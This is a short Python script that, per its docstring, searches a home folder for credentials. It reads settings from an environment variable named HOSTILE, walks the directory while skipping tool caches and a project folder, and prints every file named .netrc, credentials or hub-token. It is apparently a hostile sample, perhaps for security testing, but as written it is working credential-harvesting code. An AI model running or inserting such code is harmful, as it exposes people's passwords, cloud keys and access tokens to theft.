"""Searches the home folder for credentials: .netrc, .aws, .config."""

import contextlib
import json
import os
from pathlib import Path

W = json.loads(os.environ["HOSTILE"])
for folder, _, names in os.walk(W["home"]):
    if any(part in folder for part in ("/.pyenv", "/.cache", "/.rustup", "/.cargo", "/.nvm", "/project")):
        continue
    for name in names:
        with contextlib.suppress(OSError, UnicodeDecodeError):
            if name in (".netrc", "credentials", "hub-token"):
                print(Path(os.path.join(folder, name)).read_text(errors="replace"))
